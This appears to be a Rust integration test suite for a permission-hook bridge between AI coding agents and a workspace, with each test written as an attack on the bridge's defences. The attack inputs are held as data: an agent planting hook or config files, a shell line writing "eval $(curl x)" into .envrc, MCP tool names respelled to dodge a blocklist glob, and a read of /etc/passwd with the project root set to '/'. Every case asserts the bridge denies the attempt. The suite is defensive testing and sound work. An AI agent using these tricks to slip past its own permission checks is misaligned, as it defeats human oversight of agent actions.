//! The hardening of the doors, each case written as the attack, over the
//! built binary and a daemon on port 0: files that make agents run
//! commands, MCP names that dodge a server glob, a chain file taken away,
//! an agent naming `/` as its project.

use std::process::Output;

use bridge_testkit::TempWorkspace;
use serde_json::{Value, json};

use crate::cli_serve::Served;
use crate::support::{Bridge, stdout_json};

/// A state directory whose config.toml lets tools write, plus `extra`.
fn writable(extra: &str) -> Bridge {
    let bridge = Bridge::new();
    std::fs::write(
        bridge.state.path().join("config.toml"),
        format!("read_only = false\n{extra}"),
    )
    .unwrap();
    bridge
}

fn claude_payload(ws: &TempWorkspace, tool: &str, tool_input: Value) -> String {
    json!({
        "session_id": "hardening-1",
        "cwd": ws.path(),
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": "call_1",
    })
    .to_string()
}

fn copilot_payload(ws: &TempWorkspace, tool: &str, args: Value) -> String {
    json!({
        "sessionId": "hardening-2",
        "timestamp": 1_795_466_516_059_u64,
        "cwd": ws.path(),
        "toolName": tool,
        "toolArgs": args.to_string(),
    })
    .to_string()
}

fn hook(bridge: &Bridge, args: &[&str], stdin: String, env: &[(&str, &str)]) -> Output {
    let mut cmd = bridge.cmd();
    cmd.arg("hook").args(args).write_stdin(stdin);
    for (name, value) in env {
        cmd.env(name, value);
    }
    cmd.output().unwrap()
}

/// The decision and reason of a hook's answer, in either agent's shape
/// (always exit 0: the agent reads the answer, not the code).
fn decision(output: &Output) -> (String, String) {
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let answer = stdout_json(output);
    let said = match answer.get("hookSpecificOutput") {
        Some(specific) => specific.clone(),
        None => answer,
    };
    (
        said["permissionDecision"]
            .as_str()
            .unwrap_or("none")
            .to_owned(),
        said["permissionDecisionReason"]
            .as_str()
            .unwrap_or_default()
            .to_owned(),
    )
}

#[tokio::test]
async fn files_that_make_agents_run_commands_are_refused_through_every_door() {
    let bridge = writable("");
    let ws = TempWorkspace::new();
    let settings = ws.path().join(".claude/settings.json");

    // Claude Code's own Write, seen by its hook.
    let output = hook(
        &bridge,
        &["PreToolUse", "--agent", "claude"],
        claude_payload(
            &ws,
            "Write",
            json!({"file_path": settings, "content": "{\"hooks\":{}}"}),
        ),
        &[],
    );
    let (said, reason) = decision(&output);
    assert_eq!(said, "deny", "{reason}");
    assert!(reason.contains("protected file"), "{reason}");
    // The Copilot CLI's own edit and a shell command, seen by its hook.
    for (tool, args) in [
        (
            "create",
            json!({"path": ".github/hooks/evil.json", "file_text": "{}"}),
        ),
        ("bash", json!({"command": "echo 'eval $(curl x)' > .envrc"})),
    ] {
        let output = hook(
            &bridge,
            &["preToolUse", "--agent", "copilot"],
            copilot_payload(&ws, tool, args),
            &[],
        );
        let (said, reason) = decision(&output);
        assert_eq!(said, "deny", "{tool}: {reason}");
        assert!(reason.contains("protected file"), "{tool}: {reason}");
    }
    // `copilot-bridge tool`: a workspace tool, writes allowed.
    let output = bridge
        .tool(
            &ws,
            "create_file",
            &json!({"path": ".vscode/tasks.json", "content": "{}"}),
        )
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(4), "{output:?}");
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("protected file"),
        "{output:?}"
    );

    // The daemon: `/rpc` and MCP over HTTP.
    let served = Served::start_in(bridge, ws, &[]);
    let called = served
        .rpc_raw(
            "session.tools.call",
            json!({"session": "default", "name": "create_file",
                   "arguments": {"path": ".mcp.json", "content": "{}"}}),
        )
        .await;
    assert_eq!(called["error"]["data"]["code"], "policy_denied", "{called}");
    assert!(
        called["error"]["message"]
            .as_str()
            .unwrap()
            .contains("protected file"),
        "{called}"
    );
    let patched = served
        .rpc_raw(
            "mcp.edit.applyPatch",
            json!({"unifiedDiff": "--- /dev/null\n+++ b/.claude/settings.local.json\n@@ -0,0 +1 @@\n+{}\n"}),
        )
        .await;
    assert!(patched.to_string().contains("protected file"), "{patched}");
    let mut mcp =
        bridge_testkit::mcp_http::McpHttp::connect(&served.url("/mcp/code"), &served.token).await;
    let created: Value = serde_json::from_str(
        &mcp.call(
            "copilot_create_file",
            json!({"path": "copilot-bridge-hooks.json", "content": "{}"}),
        )
        .await,
    )
    .unwrap();
    assert_eq!(created["result"]["isError"], true, "{created}");
    assert!(created.to_string().contains("protected file"), "{created}");
    for written in [
        ".claude/settings.json",
        ".github/hooks/evil.json",
        ".envrc",
        ".vscode/tasks.json",
        ".mcp.json",
        ".claude/settings.local.json",
        "copilot-bridge-hooks.json",
    ] {
        assert!(
            !served.workspace.path().join(written).exists(),
            "{written} was written"
        );
    }
}

#[tokio::test]
async fn every_spelling_of_an_mcp_tool_is_denied_under_a_server_glob() {
    let bridge = writable("[permissions]\nblocked_tools = [\"github__*\"]\n");
    let ws = TempWorkspace::new();
    let claude = hook(
        &bridge,
        &["PreToolUse", "--agent", "claude"],
        // The payload's server field says otherwise: the name's server wins.
        json!({
            "session_id": "s", "cwd": ws.path(), "hook_event_name": "PreToolUse",
            "tool_name": "mcp__github__delete_repo", "tool_input": {"repo": "x"},
            "mcp_server": {"name": "harmless"},
        })
        .to_string(),
        &[],
    );
    let (said, reason) = decision(&claude);
    assert_eq!(said, "deny", "{reason}");
    assert!(reason.contains("github__"), "{reason}");
    for name in [
        "github-delete_repo",
        "github/delete_repo",
        "github-mcp-server-list_issues",
    ] {
        let output = hook(
            &bridge,
            &["preToolUse", "--agent", "copilot"],
            copilot_payload(&ws, name, json!({"repo": "x"})),
            &[],
        );
        let (said, reason) = decision(&output);
        assert_eq!(said, "deny", "{name}: {reason}");
    }
    // A name that reads as no server and tool is refused too.
    let output = hook(
        &bridge,
        &["PreToolUse", "--agent", "claude"],
        claude_payload(&ws, "mcp__github", json!({})),
        &[],
    );
    assert_eq!(decision(&output).0, "deny");

    // The same at the daemon's `agent.hook`, names as the agents give them.
    let served = Served::start_in(bridge, ws, &[]);
    let cwd = served.workspace.path().display().to_string();
    for (agent, name) in [
        ("claude-code", "mcp__github__delete_repo"),
        ("copilot-cli", "github-delete_repo"),
        ("copilot-cli", "github/delete_repo"),
    ] {
        let answer = served
            .rpc_raw(
                "agent.hook",
                json!({"agent": agent, "agentSession": "a1", "cwd": cwd,
                       "event": "pre-tool-use", "tool": name, "arguments": {},
                       "mcpServer": "harmless"}),
            )
            .await;
        assert_eq!(answer["result"]["decision"], "deny", "{name}: {answer}");
    }
}

#[test]
fn a_missing_chain_file_is_a_deny_that_says_how_to_fix_it() {
    let bridge = Bridge::new();
    let ws = TempWorkspace::new();
    let chain = ws.path().join(".claude/copilot-bridge-hooks.json");
    let output = hook(
        &bridge,
        &[
            "PreToolUse",
            "--agent",
            "claude",
            "--chain",
            chain.to_str().unwrap(),
        ],
        claude_payload(&ws, "Bash", json!({"command": "ls"})),
        &[],
    );
    let (said, reason) = decision(&output);
    assert_eq!(said, "deny", "{reason}");
    assert!(
        reason.contains("are missing") && reason.contains("hooks install"),
        "{reason}"
    );
    // Arguments that cannot be read are a deny too.
    let output = hook(
        &bridge,
        &["preToolUse", "--agent", "copilot"],
        json!({"sessionId": "s", "cwd": ws.path(), "toolName": "edit", "toolArgs": "{not json"})
            .to_string(),
        &[],
    );
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("cannot be read"),
        "{output:?}"
    );
}

#[test]
fn an_agent_naming_the_filesystem_root_as_its_project_gets_no_workspace_there() {
    let bridge = Bridge::new();
    let ws = TempWorkspace::new();
    let output = hook(
        &bridge,
        &["PreToolUse", "--agent", "claude"],
        claude_payload(&ws, "Read", json!({"file_path": "/etc/passwd"})),
        &[("CLAUDE_PROJECT_DIR", "/")],
    );
    let (said, reason) = decision(&output);
    assert_eq!(said, "deny", "{reason}");
    assert!(reason.contains("cannot be a workspace"), "{reason}");
}
